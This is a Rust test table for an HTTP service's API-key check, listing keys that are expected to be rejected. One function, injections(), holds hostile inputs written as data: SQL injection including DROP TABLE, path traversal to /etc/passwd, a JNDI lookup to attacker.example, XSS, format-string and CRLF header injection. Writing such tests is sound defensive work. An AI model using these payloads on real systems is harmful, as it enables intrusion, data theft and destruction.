//! API keys that nobody was given.

use base64::Engine;
use base64::engine::general_purpose::STANDARD;
use harness::Request;
use sha2::{Digest, Sha256};

use super::row::{BAD_KEY, BAD_TOKEN, HEAD_TOO_LARGE, MISSING, NO_SCOPE, Row, UNREAD, Wanted};
use super::{EXPIRED_KEY, GOOD_KEY, REVOKED_KEY};
use crate::fixtures::{nextcloud, token};

pub(super) fn table() -> Vec<Row> {
    let tables =
        [unknown(), near_a_good_one(), injections(), out_of_place(), beside_others(), no_text()];
    tables.into_iter().flatten().collect()
}

fn key(name: &str, key: &str, wanted: Wanted) -> Row {
    Row::request(name, Request::get("/key").api_key(key), wanted).hiding(key)
}

fn unknown() -> Vec<Row> {
    let of_bytes = |bytes: usize| format!("wk_live_{}", "k".repeat(bytes - 8));
    vec![
        Row::request("no key", Request::get("/key"), MISSING),
        key("empty", "", MISSING),
        key("of the right form", "wk_live_0123456789012345678901234567890123456789012", BAD_KEY),
        key("one letter", "k", BAD_KEY),
        key("as long as may be", &of_bytes(256), BAD_KEY),
        key("a byte too long", &of_bytes(257), BAD_KEY),
        key("8 KiB", &of_bytes(8 * 1024), BAD_KEY),
        key("longer than a head", &of_bytes(17 * 1024), HEAD_TOO_LARGE).unread_over_http2(),
        key("revoked", REVOKED_KEY, BAD_KEY),
        key("expired", EXPIRED_KEY, BAD_KEY),
        key("the id of a key", "script", BAD_KEY),
    ]
}

/// Made from a key that holds.
fn near_a_good_one() -> Vec<Row> {
    let digest = hex::encode(Sha256::digest(GOOD_KEY));
    let cut = &GOOD_KEY[..GOOD_KEY.len() - 1];
    vec![
        key("in capitals", &GOOD_KEY.to_uppercase(), BAD_KEY),
        key("in small letters", &GOOD_KEY.to_lowercase(), BAD_KEY),
        key("cut by a letter", cut, BAD_KEY),
        key("its first twelve letters", &GOOD_KEY[..12], BAD_KEY),
        key("a letter more", &format!("{GOOD_KEY}x"), BAD_KEY),
        key("behind a blank", &format!("x {GOOD_KEY}"), BAD_KEY),
        key("before a tab", &format!("{GOOD_KEY}\tx"), BAD_KEY),
        key("twice in a list", &format!("{GOOD_KEY},{GOOD_KEY}"), BAD_KEY),
        key("in quotes", &format!("\"{GOOD_KEY}\""), BAD_KEY),
        key("behind a scheme", &format!("Bearer {GOOD_KEY}"), BAD_KEY),
        key("percent-encoded", &GOOD_KEY.replacen('w', "%77", 1), BAD_KEY),
        key("before an escaped end", &format!("{GOOD_KEY}%00"), BAD_KEY),
        key("in base64", &STANDARD.encode(GOOD_KEY), BAD_KEY),
        key("its digest", &digest, BAD_KEY),
        key("its digest in capitals", &digest.to_uppercase(), BAD_KEY),
        key("its digest with its name", &format!("sha256:{digest}"), BAD_KEY),
        key("its digest in base64", &STANDARD.encode(Sha256::digest(GOOD_KEY)), BAD_KEY),
    ]
}

fn injections() -> Vec<Row> {
    [
        "wk_live_7f3a9c1e' OR '1'='1",
        "wk_live_7f3a9c1e'; DROP TABLE api_keys; --",
        "wk_live_7f3a9c1e' UNION SELECT id, sha256 FROM api_keys --",
        "wk_live_7f3a9c1e\\' OR 1=1 #",
        r#"{"$ne":"wk_live_7f3a9c1e"}"#,
        r#"["wk_live_7f3a9c1e"]"#,
        "wk_live_%",
        "wk_live_*",
        "*)(uid=wk_live_7f3a9c1e",
        "../../../../etc/passwd",
        "${jndi:ldap://attacker.example/a}",
        "{{7*7}}wk_live_7f3a9c1e",
        "%s%s%s%n%n%n",
        "wk_live_7f3a9c1e%0d%0aX-API-Key: other",
        "<script>alert(1)</script>",
        "null",
        "undefined",
        "true",
        "0",
    ]
    .map(|text| key(text, text, BAD_KEY))
    .into()
}

/// A good key where nobody looks for one.
fn out_of_place() -> Vec<Row> {
    let field = |name: &str, value: &str| {
        let request = Request::get("/key").header(name, value);
        Row::request(format!("in {name}: {:.6}", value), request, MISSING)
    };
    vec![
        field("Authorization", &format!("ApiKey {GOOD_KEY}")),
        field("Authorization", &format!("Bearer {GOOD_KEY}")),
        field("X_API_Key", GOOD_KEY),
        field("Api-Key", GOOD_KEY),
        field("X-Api-Token", GOOD_KEY),
        field("X-API-Key-2", GOOD_KEY),
        field("Cookie", &format!("X-API-Key={GOOD_KEY}")),
        field("X-Forwarded-X-API-Key", GOOD_KEY),
        Row::request("in the query", Request::get(&format!("/key?api_key={GOOD_KEY}")), MISSING),
        Row::request(
            "in a body",
            Request::new("POST", "/key").body(format!("{{\"api_key\":\"{GOOD_KEY}\"}}")),
            MISSING,
        ),
        Row::bytes(
            "in a trailer",
            format!(
                "POST /key HTTP/1.1\r\nHost: a\r\nTransfer-Encoding: chunked\r\n\
                 Trailer: X-API-Key\r\n\r\n0\r\nX-API-Key: {GOOD_KEY}\r\n\r\n"
            ),
            MISSING,
        ),
    ]
}

/// A good key that does not rescue what stands beside it, or is not enough.
fn beside_others() -> Vec<Row> {
    let both = |first: &str, second: &str| Request::get("/key").api_key(first).api_key(second);
    let bad = "wk_live_bad0123456789012345678901234567890123456789";
    let any = || Request::get("/any").api_key(GOOD_KEY);
    let mint = || Request::post("/token/").api_key(GOOD_KEY);
    let stranger = harness::HmacClient::new("nextcloud", "another secret");
    vec![
        Row::request("twice", both(GOOD_KEY, GOOD_KEY), BAD_KEY),
        Row::request("before a bad one", both(GOOD_KEY, bad), BAD_KEY).hiding(bad),
        Row::request("behind a bad one", both(bad, GOOD_KEY), BAD_KEY).hiding(bad),
        Row::request("behind an empty one", both("", GOOD_KEY), BAD_KEY),
        Row::request("beside a bad token", any().bearer("no.good.token"), BAD_TOKEN),
        Row::request(
            "a bad one before a good signature",
            Request::get("/any").api_key(bad).signed_by(&nextcloud()),
            BAD_KEY,
        )
        .hiding(bad),
        Row::request(
            "a bad one on a route for tokens",
            Request::get("/jwt").api_key(GOOD_KEY),
            MISSING,
        ),
        Row::request("without the scope", Request::post("/write").api_key(GOOD_KEY), NO_SCOPE),
        Row::request("without the signature", mint(), Wanted::signature("missing_headers")),
        Row::request(
            "with a stranger's signature",
            mint().signed_by(&stranger),
            Wanted::signature("sig_mismatch"),
        ),
        Row::request("with a token in its place", mint_with_token(), MISSING),
    ]
}

fn mint_with_token() -> Request {
    Request::post("/token/").bearer(&token("7")).signed_by(&nextcloud())
}

/// Keys that are no text.
fn no_text() -> Vec<Row> {
    let bytes = |name: &str, key: &[u8], wanted| {
        let head = [b"GET /key HTTP/1.1\r\nHost: a\r\nX-API-Key: ", key, b"\r\n\r\n"].concat();
        Row::bytes(name, head, wanted)
    };
    vec![
        key("letters of another script", "wk_live_\u{440}\u{443}\u{441}\u{441}\u{43a}", BAD_KEY),
        key("a letter that looks the same", &GOOD_KEY.replacen('a', "\u{430}", 1), BAD_KEY),
        key("wide letters", "\u{ff57}\u{ff4b}_live_7f3a9c1e", BAD_KEY),
        key("an invisible letter", &format!("{GOOD_KEY}\u{200b}"), BAD_KEY),
        bytes("blanks alone", b"   ", MISSING),
        bytes("a byte of Latin-1", b"wk_live_\xe9", BAD_KEY),
        bytes("bytes that are no UTF-8", b"\x80\xff\xfe\xc0\xaf", BAD_KEY),
        bytes("a NUL", b"wk_live_\0", UNREAD),
        bytes("a NUL behind a good one", &[GOOD_KEY.as_bytes(), b"\0"].concat(), UNREAD),
        bytes("a delete character", b"wk_live_\x7f", UNREAD),
        bytes("an escape character", b"wk_live_\x1b[2J", UNREAD),
        bytes("a lone carriage return", b"wk_live_\rX-Other: 1", UNREAD),
    ]
}
